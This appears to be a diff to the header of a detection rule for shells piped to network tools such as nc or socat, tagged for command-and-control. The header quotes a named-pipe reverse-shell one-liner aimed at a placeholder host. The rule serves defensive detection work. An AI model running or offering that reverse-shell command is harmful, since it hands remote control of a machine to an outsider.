@@ -1,5 +1,5 @@
 -- name: proc-shell-pipe
--- title: Shells that are wired to nc, socat, telnet or openssl by a pipe
+-- title: Shells that are wired to nc, socat or the like
 -- tags: process, network, c2
 -- attack: T1059.004, T1095
 -- about: "mkfifo f; sh <f | nc HOST PORT >f" and its relatives: the shell itself has no connection, its
